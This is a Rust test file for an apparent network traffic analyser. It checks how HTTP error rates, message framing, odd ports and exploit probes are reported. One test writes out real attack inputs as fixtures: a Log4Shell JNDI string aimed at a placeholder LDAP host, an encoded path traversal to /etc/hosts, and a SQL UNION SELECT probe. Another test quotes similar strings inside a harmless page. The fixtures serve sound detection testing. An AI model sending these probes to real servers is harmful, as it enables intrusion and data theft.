//! What servers answer, and what clients try.

use crate::tests::app::talk::Talk;
use crate::{finding::Confidence, severity::Severity, testing::Lab};

fn get(target: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nHost: example.org\r\nUser-Agent: test/1\r\n\r\n")
}

fn answer(status: &str, body: &str) -> String {
    let len = body.len();
    format!("HTTP/1.1 {status}\r\nContent-Length: {len}\r\n\r\n{body}")
}

/// One connection with these answers.
fn answers(lab: &mut Lab, statuses: &[&str]) {
    let mut talk = Talk::new(lab, 40_000, 80);
    for status in statuses {
        talk = talk.client(get("/")).server(answer(status, "text"));
    }
    talk.close();
}

#[test]
fn a_server_that_fails() {
    let mut lab = Lab::new();
    let mut statuses = vec!["200 OK"; 10];
    statuses.extend(["503 Service Unavailable"; 5]);
    statuses.push("500 Internal Server Error");
    answers(&mut lab, &statuses);
    let outcome = lab.end();
    let finding = outcome.only("http.errors");
    assert_eq!(
        finding.summary,
        "10.0.0.2 port 80 answered 6 of 16 HTTP requests of 10.0.0.1 with errors of the server (5xx), most often 503 (5 times)."
    );
    assert_eq!(finding.count, 6);
}

#[test]
fn a_client_that_asks_for_what_is_not_there() {
    let mut lab = Lab::new();
    answers(&mut lab, &["404 Not Found"; 25]);
    let outcome = lab.end();
    let finding = outcome.only("http.errors");
    assert!(finding.summary.contains("25 of 25"), "{}", finding.summary);
    assert!(finding.summary.contains("404"), "{}", finding.summary);
}

#[test]
fn a_few_errors_are_ordinary() {
    let mut lab = Lab::new();
    let mut statuses = vec!["200 OK"; 100];
    statuses.extend(["404 Not Found"; 6]);
    statuses.extend(["500 Internal Server Error"; 2]);
    // A login is asked for, and given by other means.
    statuses.extend(["401 Unauthorized"; 40]);
    answers(&mut lab, &statuses);
    lab.end().nothing();
}

/// Bodies in chunks, without a length, of HEAD, in many segments, and several requests at once.
#[test]
fn messages_end_where_they_end() {
    let mut lab = Lab::new();
    let page = "HTTP/1.1 500 not a status line\r\n".repeat(200);
    let chunked = format!(
        "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n{:x};a=b\r\n{page}\r\n5\r\nHTTP/\r\n0\r\nTrailer: x\r\n\r\n",
        page.len()
    );
    let long = answer("200 OK", &page);
    let head = "HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n";
    let empty = answer("200 OK", "");
    for port in 0..5 {
        Talk::new(&mut lab, 40_000 + port, 8080)
            .client("HEAD / HTTP/1.1\r\n\r\n")
            .server(head)
            .client(get("/1") + &get("/2") + &get("/3"))
            .server(chunked.clone() + &empty + &long)
            .client(format!(
                "POST / HTTP/1.1\r\nContent-Length: {}\r\n\r\n{}",
                40,
                "GET /../../ HTTP/1.1\r\n"
                    .repeat(2)
                    .get(..40)
                    .expect("text")
            ))
            .server("HTTP/1.1 100 Continue\r\n\r\n")
            .server(answer("500 Oh", "x"))
            .client(get("/4"))
            .server("HTTP/1.1 304 Not Modified\r\nContent-Length: 99\r\n\r\n")
            .close();
    }
    let outcome = lab.end();
    let finding = outcome.only("http.errors");
    assert_eq!(
        finding.summary,
        "10.0.0.2 port 8080 answered 5 of 30 HTTP requests of 10.0.0.1 with errors of the server (5xx), most often 500 (5 times)."
    );
}

#[test]
fn requests_that_try_known_weaknesses() {
    let mut lab = Lab::new();
    let jndi = "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.66/a}\r\n\r\n";
    Talk::new(&mut lab, 40_000, 80)
        .client(jndi)
        .server(answer("200 OK", "x"))
        .client(get("/static/%2e%2e%2f%2e%2e%2fetc/hosts"))
        .server(answer("404 Not Found", "x"))
        .client(get("/a?id=1%2520UNION+select+1"))
        .server(answer("200 OK", "x"))
        .close();
    let outcome = lab.end();
    let finding = outcome.only("exploit.probe");
    assert_eq!(
        finding.summary,
        "10.0.0.1 sent HTTP requests to 10.0.0.2 port 80 with text that attacks have: ${jndi: (1), ../../ (1), union select (1)."
    );
    assert_eq!(
        (finding.severity, finding.confidence, finding.count),
        (Severity::Warn, Confidence::Low, 3)
    );
}

#[test]
fn a_page_about_attacks_is_harmless() {
    let mut lab = Lab::new();
    let page = "Log4Shell sends ${jndi:ldap://…}, others ../../../etc/passwd or ' or '1'='1, union select, <script>";
    Talk::new(&mut lab, 40_000, 80)
        .client(get("/wiki/Log4Shell?from=../style.css"))
        .server(answer("200 OK", page))
        .client(format!(
            "POST /wiki HTTP/1.1\r\nContent-Length: {}\r\n\r\n{page}",
            page.len()
        ))
        .server(answer("200 OK", "x"))
        .close();
    lab.end().nothing();
}

#[test]
fn only_ports_of_others_are_odd() {
    let mut lab = Lab::new();
    for (client, port) in (40_000..).zip([80, 3000, 8000, 8080, 12_345]) {
        Talk::new(&mut lab, client, port)
            .client(get("/"))
            .server(answer("200 OK", "x"))
            .close();
    }
    lab.end().nothing();
    for port in [22, 443, 6379] {
        let mut lab = Lab::new();
        Talk::new(&mut lab, 40_000, port)
            .client(get("/"))
            .server(answer("200 OK", "x"))
            .close();
        assert_eq!(lab.end().only("service.odd_port").severity, Severity::Info);
    }
}
